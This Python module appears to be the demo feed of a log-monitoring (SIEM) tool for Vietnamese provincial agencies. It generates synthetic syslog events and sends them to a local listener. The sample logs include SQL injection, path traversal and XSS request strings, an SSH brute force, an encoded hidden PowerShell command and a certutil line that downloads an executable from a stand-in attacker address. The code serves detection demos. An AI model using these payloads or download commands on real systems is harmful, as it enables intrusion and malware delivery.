"""A demo feed of provincial logs, sent through the real syslog TCP listener.

What a newcomer sees: SSH logins and a brute force on a data-centre server, requests to the
public-service portal including attacks, Windows process creation on an agency PC (NXLog JSON over
syslog), and the same attacker trying a district's server. Addresses are from the documentation
ranges (RFC 5737), hosts are invented.

Each agency sends from its own declared source: `demo_sources()` declares one per agency (Sở
TT&TT, the data centre, the portal's operator, a district) bound to its own loopback address, and
`send_demo` sends each agency's lines from that address, so the console shows a real agency
column, an agency viewer sees only its agency, and each source has its own health.
"""

from __future__ import annotations

import asyncio
import ipaddress
import json
import logging
import random
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING

from canhgac.core.config import Settings, SourceConfig

if TYPE_CHECKING:
    from canhgac.runtime import Runtime

log = logging.getLogger(__name__)

DC_SERVER = "tthdl-app01"  # Trung tâm Tích hợp dữ liệu
PORTAL = "dichvucong-web01"  # Cổng Dịch vụ công
AGENCY_PC = "STTTT-PC017"  # Sở Thông tin và Truyền thông
DISTRICT_SERVER = "ubndhuyen-motcua01"  # UBND huyện: the district's one-stop (Một cửa) server
ATTACKER = "203.0.113.66"
SCANNER = "198.51.100.23"
OFFICE_IPS = ["10.20.1.15", "10.20.1.22", "10.20.3.40"]
CITIZEN_IPS = ["113.161.4.20", "14.232.10.8", "27.72.100.5", "116.96.44.2"]
STAFF = ["nguyenvana", "tranthib", "lequangc", "phamthid"]


def _rfc3164(ts: datetime, host: str, tag: str, msg: str, pri: int = 38) -> str:
    # RFC 3164 timestamps carry no zone: senders in the province log in local time (UTC+7).
    local = ts + timedelta(hours=7)
    return f"<{pri}>{local.strftime('%b')} {local.day:2d} {local.strftime('%H:%M:%S')} {host} {tag}: {msg}"


def _rfc5424(ts: datetime, host: str, app: str, msg: str, pri: int = 134, procid: str = "-", sd: str = "-") -> str:
    stamp = ts.isoformat(timespec="milliseconds").replace("+00:00", "Z")
    return f"<{pri}>1 {stamp} {host} {app} {procid} - {sd} {msg}"


def ssh_lines(now: datetime, rng: random.Random) -> list[str]:
    lines = []
    for i, user in enumerate(STAFF[:2]):
        ip = rng.choice(OFFICE_IPS)
        lines.append(
            _rfc3164(
                now + timedelta(seconds=i),
                DC_SERVER,
                f"sshd[{2100 + i}]",
                f"Accepted publickey for {user} from {ip} port {50000 + i} ssh2: RSA SHA256:k3yF1ngerPr1nt",
            )
        )
    for i in range(8):
        user = "root" if i % 2 else "admin"
        lines.append(
            _rfc3164(
                now + timedelta(seconds=10 + i),
                DC_SERVER,
                f"sshd[{3100 + i}]",
                f"Failed password for {user} from {ATTACKER} port {40000 + i} ssh2",
                pri=38,
            )
        )
    lines.append(
        _rfc3164(
            now + timedelta(seconds=20),
            DC_SERVER,
            "sshd[3120]",
            f"Accepted password for root from {ATTACKER} port 40100 ssh2",
        )
    )
    lines.append(
        _rfc3164(
            now + timedelta(seconds=22),
            DC_SERVER,
            "sudo",
            "nguyenvana : TTY=pts/0 ; PWD=/home/nguyenvana ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx",
        )
    )
    return lines


def portal_lines(now: datetime, rng: random.Random) -> list[str]:
    def access(ts: datetime, ip: str, method: str, path: str, status: int, ua: str) -> str:
        local = ts + timedelta(hours=7)
        clf = local.strftime("%d/%b/%Y:%H:%M:%S +0700")
        size = rng.randint(300, 40000)
        body = f'{ip} - - [{clf}] "{method} {path} HTTP/1.1" {status} {size} "-" "{ua}"'
        return _rfc3164(ts, PORTAL, "nginx", body, pri=190)

    browser = (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"
    )
    normal = [
        "/",
        "/dich-vu-cong/tra-cuu-ho-so?ma=HS2026-001234",
        "/thu-tuc-hanh-chinh?linhvuc=dat-dai",
        "/static/css/main.css",
        "/tin-tuc/thong-bao-nghi-le",
        "/dich-vu-cong/nop-ho-so",
    ]
    lines = [
        access(now + timedelta(seconds=i), rng.choice(CITIZEN_IPS), "GET", rng.choice(normal), 200, browser)
        for i in range(12)
    ]
    attacks = [
        "/dich-vu-cong/tra-cuu-ho-so?ma=1'%20UNION%20SELECT%20username,password%20FROM%20users--",
        "/thu-tuc-hanh-chinh?linhvuc=../../../../etc/passwd",
        "/tin-tuc/tim-kiem?q=<script>alert(document.cookie)</script>",
        "/dich-vu-cong/tra-cuu-ho-so?ma=1%20or%201=1",
    ]
    for i, path in enumerate(attacks):
        lines.append(
            access(
                now + timedelta(seconds=20 + i),
                SCANNER,
                "GET",
                path,
                403,
                "sqlmap/1.8.2#stable (https://sqlmap.org)",
            )
        )
    return lines


def windows_lines(now: datetime, rng: random.Random) -> list[str]:
    def sysmon(ts: datetime, image: str, cmd: str, parent: str, user: str) -> str:
        record = {
            "EventTime": (ts + timedelta(hours=7)).strftime("%Y-%m-%d %H:%M:%S"),
            "EventTimeUTC": ts.isoformat(timespec="seconds").replace("+00:00", "Z"),
            "Hostname": AGENCY_PC,
            "SourceName": "Microsoft-Windows-Sysmon",
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "EventID": 1,
            "Image": image,
            "CommandLine": cmd,
            "ParentImage": parent,
            "User": user,
            "IntegrityLevel": "Medium",
            "ProcessId": rng.randint(1000, 9000),
            "OriginalFileName": image.rsplit("\\", 1)[-1].upper(),
        }
        return _rfc5424(ts, AGENCY_PC, "nxlog", json.dumps(record, ensure_ascii=False), pri=14)

    user = "STTTT\\tranthib"
    return [
        sysmon(
            now,
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            '"WINWORD.EXE" /n "C:\\Users\\tranthib\\Downloads\\CongVan_1234.docm"',
            "C:\\Windows\\explorer.exe",
            user,
        ),
        sysmon(
            now + timedelta(seconds=3),
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            user,
        ),
        sysmon(
            now + timedelta(seconds=5),
            "C:\\Windows\\System32\\certutil.exe",
            "certutil.exe -urlcache -split -f http://203.0.113.66/a.exe C:\\Users\\Public\\a.exe",
            "C:\\Windows\\System32\\cmd.exe",
            user,
        ),
        sysmon(
            now + timedelta(seconds=8),
            "C:\\Windows\\System32\\whoami.exe",
            "whoami /all",
            "C:\\Windows\\System32\\cmd.exe",
            user,
        ),
    ]


def district_lines(now: datetime, rng: random.Random) -> list[str]:
    """The same attacker tries the district's server: a separate alert, the district's own."""
    lines = [
        _rfc3164(
            now + timedelta(seconds=i),
            DISTRICT_SERVER,
            f"sshd[{4100 + i}]",
            f"Failed password for invalid user motcua from {ATTACKER} port {41000 + i} ssh2",
        )
        for i in range(5)
    ]
    lines.append(
        _rfc3164(
            now + timedelta(seconds=9),
            DISTRICT_SERVER,
            "sshd[4200]",
            f"Accepted publickey for {STAFF[2]} from {rng.choice(OFFICE_IPS)} port 51000 ssh2",
        )
    )
    return lines


@dataclass(frozen=True, slots=True)
class DemoAgency:
    agency: str  # the agency id events and alerts carry
    name: str
    source_id: str
    address: str  # the loopback address its lines come from (its declared source's address)
    security_level: int
    lines: Callable[[datetime, random.Random], list[str]]


DEMO_AGENCIES = (
    DemoAgency("tthdl", "Trung tâm Tích hợp dữ liệu tỉnh", "tthdl-servers", "127.0.10.1", 4, ssh_lines),
    DemoAgency(
        "vp-ubnd", "Văn phòng UBND tỉnh (vận hành Cổng Dịch vụ công)", "dichvucong-web", "127.0.20.1", 3, portal_lines
    ),
    DemoAgency("so-tttt", "Sở Thông tin và Truyền thông", "sotttt-workstations", "127.0.30.1", 3, windows_lines),
    DemoAgency("ubnd-huyen-a", "UBND huyện A", "huyen-a-servers", "127.0.40.1", 2, district_lines),
)


def demo_sources() -> tuple[SourceConfig, ...]:
    """One declared source per demo agency, matched by its own address (syslog TCP)."""
    return tuple(
        SourceConfig(
            id=a.source_id,
            agency=a.agency,
            format="syslog",
            security_level=a.security_level,  # type: ignore[arg-type]
            allowed_addresses=(f"{a.address}/32",),
            transports=("syslog_tcp",),
            expected_interval_secs=300,  # the demo sends every 30 s: silent for 5 min means trouble
        )
        for a in DEMO_AGENCIES
    )


def with_demo_sources(settings: Settings) -> Settings:
    """The settings plus the demo's sources (a source the settings declare already is kept)."""
    declared = {s.id for s in settings.sources}
    extra = tuple(s for s in demo_sources() if s.id not in declared)
    return settings.model_copy(update={"sources": (*settings.sources, *extra)})


def demo_lines(now: datetime | None = None, seed: int | None = None) -> list[str]:
    rng = random.Random(seed)
    now = now or datetime.now(UTC)
    return [line for agency in DEMO_AGENCIES for line in agency.lines(now, rng)]


async def send_demo(host: str, port: int, *, now: datetime | None = None, seed: int | None = None) -> dict[str, int]:
    """Each agency's lines over its own connection, from its own address; lines sent per agency.

    A listener that is not on loopback cannot see those addresses: the lines then come from this
    host's address (the collector's default source, or the one declared for it)."""
    rng = random.Random(seed)
    now = now or datetime.now(UTC)
    loopback = _is_loopback(host)
    sent = {}
    for agency in DEMO_AGENCIES:
        lines = agency.lines(now, rng)
        sent[agency.agency] = await send_lines(host, port, lines, local_address=agency.address if loopback else None)
    return sent


def _is_loopback(host: str) -> bool:
    try:
        return ipaddress.ip_address(host).is_loopback
    except ValueError:
        return host == "localhost"


async def send_lines(
    host: str, port: int, lines: list[str], *, octet_counting: bool = False, local_address: str | None = None
) -> int:
    local = (local_address, 0) if local_address else None
    _reader, writer = await asyncio.open_connection(host, port, local_addr=local)
    try:
        for line in lines:
            data = line.encode("utf-8")
            writer.write(f"{len(data)} ".encode() + data if octet_counting else data + b"\n")
        await writer.drain()
    finally:
        writer.close()
        await writer.wait_closed()
    return len(lines)


async def _demo_admin(runtime: Runtime) -> str:
    """Create the demo admin if missing: password from CANHGAC_DEMO_ADMIN_PASSWORD, or a random one
    printed here, once."""
    import os

    from canhgac.api.indices import ensure_api_indices
    from canhgac.api.users.service import ensure_demo_admin
    from canhgac.core.errors import CanhgacError
    from canhgac.core.store import make_client

    cfg = runtime.settings.opensearch
    client = make_client(cfg, component="api")
    try:
        await ensure_api_indices(client, cfg)
        chosen = os.environ.get("CANHGAC_DEMO_ADMIN_PASSWORD") or None
        created = await ensure_demo_admin(client, cfg.users_index, chosen)
    except (CanhgacError, ValueError) as exc:
        return f"(demo admin not created: {exc})"
    finally:
        await client.close()
    if created:
        return f"user: admin   password: {created}   (shown once; `canhgac users set-password` resets it)"
    return "user: admin (password: CANHGAC_DEMO_ADMIN_PASSWORD or the one printed at first start)"


async def run_demo_loop(runtime: Runtime, interval_secs: float = 30.0) -> None:
    s = runtime.settings
    assert runtime.collector is not None and runtime.collector.port is not None, "demo needs the syslog collector"
    port = runtime.collector.port
    api = f"http://{s.api.host}:{s.api.port}"
    login = await _demo_admin(runtime)
    print(
        f"\nCanhgac is running. Demo feed -> syslog tcp://{s.collectors.syslog_tcp.host}:{port}, from the\n"
        f"  declared sources of {', '.join(a.name for a in DEMO_AGENCIES)}\n"
        f"  console: {api}/   {login}\n"
        f"  token:   curl -s -XPOST {api}/api/v1/auth/token -H 'content-type: application/json' "
        '-d \'{"username": "admin", "password": "..."}\'\n'
        f"  alerts:  curl -s -H 'Authorization: Bearer <token>' {api}/api/v1/alerts | python -m json.tool\n"
        f"  metrics: {api}/metrics   readiness: {api}/readyz   docs: docs/console.md, docs/api.md\n"
        "  Ctrl-C stops it (the pipeline drains first).\n",
        flush=True,
    )
    while not runtime.stop_event.is_set():
        try:
            sent = await send_demo(s.collectors.syslog_tcp.host, port)
            log.info("demo: sent %s lines (by agency)", sent)
        except OSError as exc:
            log.warning("demo: could not send: %s", exc)
        try:
            await asyncio.wait_for(runtime.stop_event.wait(), timeout=interval_secs)
        except TimeoutError:
            continue
